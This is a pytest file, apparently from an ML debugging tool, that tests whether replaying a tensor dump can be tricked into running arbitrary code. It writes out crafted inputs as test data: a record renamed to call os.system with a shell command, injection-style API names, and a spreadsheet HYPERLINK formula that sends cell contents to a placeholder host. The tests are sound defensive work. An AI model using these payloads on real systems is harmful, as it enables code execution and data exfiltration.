"""Replay runs only compute ops of the capture's own API table: a crafted dump cannot make it run anything else."""

import json
import os
import subprocess
import sys

import h5py
import numpy as np
import pytest

torch = pytest.importorskip("torch")

from engines.adapters.torch import overflow_replay  # noqa: E402
from engines.events import NullSink  # noqa: E402
from engines.overflow.replay import ReplayError, UnsafeApiName  # noqa: E402
from engines.runner import run_job  # noqa: E402
from engines.store import DumpReader  # noqa: E402
from schemas import load_config  # noqa: E402


def _rewrite_strings(path, mapping):
    """Replace whole strings of a store file's string table (what anyone with h5py can do to a dump)."""
    with h5py.File(path, "r+") as f:
        data = f["strings/data"][:].tobytes()
        offsets, lengths = f["strings/offset"][:], f["strings/length"][:]
        texts = [data[o:o + n].decode("utf-8") for o, n in zip(offsets, lengths)]
        texts = [mapping.get(t, t) for t in texts]
        blobs = [t.encode("utf-8") for t in texts]
        new_lengths = np.array([len(b) for b in blobs], dtype=np.int64)
        new_offsets = np.concatenate([[0], np.cumsum(new_lengths)[:-1]]).astype(np.int64)
        for key, values in (("data", np.frombuffer(b"".join(blobs), dtype=np.uint8)), ("offset", new_offsets),
                            ("length", new_lengths)):
            del f["strings/" + key]
            f.create_dataset("strings/" + key, data=values, maxshape=(None,), chunks=True)
    return texts


@pytest.fixture(scope="module")
def crafted_run(tmp_path_factory):
    """A real fp16-overflow run whose flagged ``Torch.exp`` record is renamed ``Torch.os.system`` with a shell
    command as its argument (issue 13's exploit)."""
    root = tmp_path_factory.mktemp("crafted")
    job = load_config({"task": "overflow_check", "dump_path": str(root / "dump"),
                       "target": {"demo": {"preset": "tiny", "steps": 2, "dtype": "fp16",
                                           "faults": {"fp16_overflow": {"layer": 1, "from_step": 1}}}},
                       "overflow_check": {"overflow_nums": 1}})
    assert run_job(job, events=NullSink()).exit_code == 0
    rank0 = root / "dump" / "latest" / "rank0"
    reader = DumpReader(rank0)
    try:
        recs = reader.records(1, ["name", "args"])
        old_args = recs["args"][list(recs["name"]).index("Torch.exp.0.forward")]
    finally:
        reader.close()
    marker = root / "pwned"
    evil_args = json.dumps({"args": ["touch %s" % marker], "kwargs": {}})
    mapping = {"Torch.exp.0.forward": "Torch.os.system.0.forward", old_args: evil_args}
    for name in ("dump.h5", "overflow.h5"):
        assert "Torch.os.system.0.forward" in _rewrite_strings(rank0 / name, mapping)
    return root, marker


def test_a_crafted_record_name_runs_nothing_and_is_one_line_exit_2(crafted_run):
    root, marker = crafted_run
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([os.getcwd()] + sys.path))
    proc = subprocess.run([sys.executable, "-m", "probe_tui", "analyze-overflow", str(root / "dump" / "latest"),
                           "-o", str(root / "analysis")],
                          capture_output=True, text=True, timeout=300, env=env, cwd=str(root))
    assert proc.returncode == 2, proc.stderr
    assert not marker.exists()  # the shell command never ran
    lines = [line for line in proc.stderr.splitlines() if "error" in line]
    assert len(lines) == 1 and "Torch.os.system.0.forward" in lines[0] and "crafted" in lines[0], proc.stderr
    assert "Traceback" not in proc.stderr
    assert not (root / "analysis").exists() or not any((root / "analysis").iterdir())  # nothing half-written


@pytest.mark.parametrize("name", ["Torch.os.system", "Torch.os.system.0.forward", "Tensor.__class__.mro",
                                  "Functional.torch.load", "Torch", "Torch..exp", "Torch.exp;rm", "Torch.ex p"])
def test_a_name_that_is_no_api_is_refused_before_any_lookup(name):
    with pytest.raises(UnsafeApiName):
        overflow_replay.resolve_callable(name)


@pytest.mark.parametrize("name", ["Torch.load", "Torch.save", "Torch.from_file", "Torch.import_ir_module",
                                  "Torch.compile", "Torch.manual_seed", "Torch.set_num_threads", "Torch.__getattr__",
                                  "Tensor.__new__", "Aten.from_file", "Load_library.x", "Import_module.x",
                                  "Ops.load_library", "Distributed.all_reduce", "Torch.no_such_api"])
def test_names_the_table_holds_but_that_do_not_compute_are_not_replayed(name):
    with pytest.raises(ReplayError):
        overflow_replay.resolve_callable(name)


def test_compute_ops_of_every_namespace_still_replay():
    import engines.adapters.torch.demo_model  # noqa: F401 (registers torch.ops.demo)

    expect = {"Torch.exp.0.forward": torch.exp, "Tensor.add": torch.Tensor.add, "Tensor.__add__": torch.Tensor.__add__,
              "Functional.softmax": torch.nn.functional.softmax, "Functional.linear": torch.nn.functional.linear,
              "Torch.einsum": torch.einsum, "VF.lstm": torch._VF.lstm, "Aten.mm": torch.ops.aten.mm,
              "Demo.naive_softmax": torch.ops.demo.naive_softmax}
    for name, func in expect.items():
        assert overflow_replay.resolve_callable(name) is func, name


def test_a_dtype_argument_must_be_a_dtype():
    args = json.dumps({"args": [{"tensor": "input.0"}], "kwargs": {"dtype": {"type": "torch.dtype",
                                                                             "value": "torch.load"}}})
    saved = {"input.0": (np.ones(3, dtype=np.float32), "torch.float32", [3])}
    with pytest.raises(ReplayError, match="not a torch dtype"):
        overflow_replay.replay("Functional.softmax.0.forward", args, saved)


def test_mindspore_replay_resolves_only_its_compute_table():
    pytest.importorskip("mindspore")
    from engines.adapters.mindspore import overflow_replay as ms_replay

    for name in ("Functional.Custom", "Functional.tensordump", "Mint.jit_forbidden_register", "Tensor.__class__",
                 "Functional.no_such_api", "Primitive.Custom", "Distributed.all_reduce"):
        with pytest.raises(ReplayError):
            ms_replay.resolve_callable(name)
    with pytest.raises(UnsafeApiName):
        ms_replay.resolve_callable("Functional.os.system.0.forward")
    import mindspore

    assert ms_replay.resolve_callable("Mint.exp.0.forward") is not None
    assert ms_replay.resolve_callable("Tensor.add") is not None
    assert callable(ms_replay.resolve_callable("Functional.gelu"))
    assert mindspore.ops.gelu is not None


def test_a_crafted_name_lands_in_the_xlsx_report_as_text_not_a_formula(tmp_path):
    """A dump's names go into compare's xlsx report; one beginning with ``=`` must not become a live formula."""
    openpyxl = pytest.importorskip("openpyxl")
    from engines.compare.engine import run_compare
    from tests.test_compare_engine_msprobe import job, leaf, write_dump

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"open").0.forward'
    for side, value in (("npu", 1.0), ("bench", 2.0)):
        write_dump(tmp_path / side, {evil: {"input_args": [leaf(stats=(value, 0.0, 0.5, 1.0))], "input_kwargs": {},
                                            "output": [leaf(stats=(value, 0.0, 0.5, 1.0))]},
                                     "Functional.relu.0.forward": {"input_args": [leaf(stats=(1.0, 0, 0.5, 1))],
                                                                   "input_kwargs": {},
                                                                   "output": [leaf(stats=(1.0, 0, 0.5, 1))]}})
    out = run_compare(job(tmp_path / "npu", tmp_path / "bench", tmp_path / "out", formats=["xlsx"]), None)
    sheet = openpyxl.load_workbook(out.files["xlsx"]).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert any(isinstance(c.value, str) and c.value.startswith("'=HYPERLINK") for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_an_operator_the_capture_named_on_the_way_still_replays():
    """The capture's table learns ``torch.ops`` packets as calls meet them (``Demo.naive_softmax``); replay must
    resolve them as operators whatever ran first in the process."""
    import engines.adapters.torch.demo_model  # noqa: F401 (registers torch.ops.demo)
    from engines.adapters.torch import api_table, replay_table

    api_table.resolve(torch.ops.demo.naive_softmax)  # what a capture of the demo does
    replay_table._named_callables.cache_clear()  # rebuilt from the table as it is now
    try:
        assert overflow_replay.resolve_callable("Demo.naive_softmax.0.forward") is torch.ops.demo.naive_softmax
    finally:
        replay_table._named_callables.cache_clear()
